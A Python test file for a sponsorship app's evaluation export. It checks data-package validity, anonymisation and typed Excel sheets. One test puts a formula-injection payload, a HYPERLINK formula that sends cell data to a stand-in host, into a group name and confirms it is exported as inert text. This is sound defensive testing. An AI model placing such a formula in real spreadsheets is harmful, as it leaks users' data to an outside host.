"""The data bundle validates against its own datapackage.json (checked here without the app's
code: types, constraints, hashes), carries a codebook and every figure's definition, holds the
tables evaluators asked for, is anonymised like the PDF, and comes with a typed workbook."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from sponsor_app.domain.reports import ReportKind
from sponsor_app.reports.generate import write
from sponsor_app.services.reporting.gather import ReportRequest, prepare
from sponsor_app.services.reporting.report_data import default_period

from .conftest import MADE_AT
from .helpers import text_of


def validate(path) -> dict[str, list[dict]]:
    """A bundle checked against its datapackage.json by an independent reading of the
    Frictionless rules: each file's bytes and SHA-256, its header the schema's fields in order,
    each value of its type and within its constraints, primary keys unique."""
    with zipfile.ZipFile(path) as archive:
        package = json.loads(archive.read("datapackage.json"))
        assert package["profile"] == "tabular-data-package"
        assert package["sponsor_desk_bundle_version"] == "2.0"
        assert re.fullmatch(r"[0-9a-f-]{36}", package["id"])
        tables = {}
        for resource in package["resources"]:
            content = archive.read(resource["path"])
            assert resource["hash"] == "sha256:" + hashlib.sha256(content).hexdigest()
            assert resource["bytes"] == len(content)
            if resource["format"] != "csv":
                continue
            schema = resource["schema"]
            names = [f["name"] for f in schema["fields"]]
            rows = list(csv.reader(io.StringIO(content.decode("utf-8"))))
            assert rows[0] == names, resource["path"]
            keys = set()
            for row in rows[1:]:
                assert len(row) == len(names)
                for value, field in zip(row, schema["fields"], strict=True):
                    _check(value, field, resource["name"])
                key = tuple(row[names.index(k)] for k in schema.get("primaryKey", []))
                if key:
                    assert key not in keys, (resource["path"], key)
                    keys.add(key)
            tables[resource["name"]] = [dict(zip(names, row, strict=True)) for row in rows[1:]]
    return tables


def _check(value: str, field: dict, table: str) -> None:
    where = (table, field["name"], value)
    assert field["type"] in ("string", "integer", "number", "date", "boolean"), where
    assert field["description"], where
    rules = field.get("constraints", {})
    if value == "":
        assert not rules.get("required"), where
        return
    match field["type"]:
        case "integer":
            number = int(value)
        case "number":
            assert re.fullmatch(r"-?\d+(\.\d+)?", value), where  # no NaN, no exponent
            number = Decimal(value)
        case "date":
            date.fromisoformat(value)
            return
        case "boolean":
            assert value in ("true", "false"), where
            return
        case _:
            text = value.removeprefix("'")  # neutralised text, as a spreadsheet would show it
            assert len(text) <= rules.get("maxLength", 10**9), where
            if "enum" in rules:
                assert text in rules["enum"], where
            if "pattern" in rules:
                assert re.fullmatch(rules["pattern"], text), where
            return
    if "minimum" in rules:
        assert number >= rules["minimum"], where
    if "maximum" in rules:
        assert number <= rules["maximum"], where


def _bundle(store, tmp_path, name, named=False, period=None):
    out = tmp_path / f"{name}.pdf"
    bundle = tmp_path / f"{name}.zip"
    write(prepare(
        store,
        ReportRequest(ReportKind.EVALUATION, out, period or default_period(store), named,
                      bundle=bundle, generated_at=MADE_AT, invariant=True),
    ))  # fmt: skip
    return bundle


def test_a_bundle_validates_against_its_datapackage(report_store, tmp_path):
    tables = validate(_bundle(report_store, tmp_path, "one"))
    assert tables["group"][0]["anonymised"] == "true"
    assert [h["household"] for h in tables["households"]] == ["H1", "H9"]


def test_a_bundle_holds_what_the_pdf_shows_and_what_evaluators_asked_for(report_store, tmp_path):
    bundle = _bundle(report_store, tmp_path, "one")
    tables = validate(bundle)
    asked = {
        "overdue_tasks", "milestones", "vetting", "volunteer_vetting", "training", "hours_by_activity", "housing",
        "budget", "make_up", "national_indicators", "volunteer_turnover", "concerns_by_days",
        "task_sources", "plausibility", "indicators", "indicator_values", "completeness",
    }  # fmt: skip
    assert asked <= set(tables)
    assert {"pledges_outstanding", "pledges_behind", "concerns_open"} <= {
        f["figure"] for f in tables["figures"]
    }
    assert tables["group"][0]["funds_rule"] == "budget"  # New Zealand: no fixed minimum
    assert tables["group"][0]["template_version"].startswith("nz-cors/")
    assert {r["flag"] for r in tables["plausibility"]} == {
        "task_done_before_arrival", "school_without_school_age_child",
        "volunteer_added_after_period", "changed_after_period",
    }  # fmt: skip
    # the same figures, with the same one definition, as the PDF's summary and definitions
    text = text_of(tmp_path / "one.pdf")
    for figure in tables["figures"]:
        assert figure["label"] in text, figure["label"]
        assert " ".join(figure["definition"].split()) in text, figure["figure"]


def test_the_codebook_types_every_field_and_is_the_pdfs_appendix(report_store, tmp_path):
    bundle = _bundle(report_store, tmp_path, "one")
    with zipfile.ZipFile(bundle) as archive:
        package = json.loads(archive.read("datapackage.json"))
    fields = {
        (r["name"], f["name"]): f for r in package["resources"] if "schema" in r
        for f in r["schema"]["fields"]
    }  # fmt: skip
    values = {name: f for (table, name), f in fields.items() if table == "indicator_values"}
    assert values["english_hours"]["type"] == "number"
    assert values["english_hours"]["unit"] == "hours/week"
    assert values["bank_account"]["type"] == "boolean"
    assert values["school_enrolled_on"]["type"] == "date"
    assert values["english_level"]["constraints"]["enum"][:2] == ["none", "beginner"]
    assert "pattern" in values["benefits"]["constraints"]  # several of the options
    assert fields[("money", "amount")]["unit"] == "NZD"
    assert "self_reported_health" not in values  # health readings are only counted
    appendix = text_of(tmp_path / "one.pdf").split("11. Codebook of the data bundle")[1]
    for (table, name), _ in fields.items():
        assert name in appendix, (table, name)


def test_a_bundle_is_anonymised_like_the_pdf(report_store, tmp_path):
    bundle = _bundle(report_store, tmp_path, "one")
    everything = []
    with zipfile.ZipFile(bundle) as archive:
        for name in archive.namelist():
            if name.endswith(".xlsx"):
                with zipfile.ZipFile(io.BytesIO(archive.read(name))) as book:
                    everything += [book.read(p).decode() for p in book.namelist()]
            else:
                everything.append(archive.read(name).decode("utf-8"))
    joined = " ".join(everything)
    for detail in ("Şükrü", "Öztürk", "Aroha Ngata", "@example.org", "Kōwhai Street",
                   "St Andrew's Parish", "1985-04-02"):  # fmt: skip
        assert detail not in joined, detail


def test_the_workbook_has_a_typed_sheet_per_table_and_the_codebook(report_store, tmp_path):
    from sqlalchemy import select

    from sponsor_app.storage.models import GroupProfile

    hyperlink = '=HYPERLINK("http://x.test/?"&A1,"Group")'
    with report_store.transaction("Rename the group") as session:
        session.scalars(select(GroupProfile)).one().name = hyperlink
    bundle = _bundle(report_store, tmp_path, "one")
    with zipfile.ZipFile(bundle) as archive:
        book = load_workbook(io.BytesIO(archive.read("figures.xlsx")))
        package = json.loads(archive.read("datapackage.json"))
    tables = [r["name"] for r in package["resources"] if r["format"] == "csv"]
    assert book.sheetnames == ["About", *tables, "codebook"]
    group = book["group"]
    assert group["B2"].value == hyperlink and group["B2"].data_type == "s"  # text, not a formula
    assert group["F2"].value == datetime(2025, 6, 15)  # a date (openpyxl reads it as datetime)
    assert group["F2"].number_format == "yyyy-mm-dd"
    money = book["money"]
    amounts = [row for row in money.iter_rows(min_row=2, values_only=False)]
    assert all(isinstance(c[2].value, (int, float)) for c in amounts)
    assert amounts[0][2].number_format.startswith('#,##0.00 "NZD"')
    assert book["figures"]["C2"].value == 2  # households: a number, not text
    assert book["codebook"]["A1"].value == "table"
    assert book["codebook"].max_row == 1 + sum(
        len(r["schema"]["fields"]) for r in package["resources"] if "schema" in r
    )
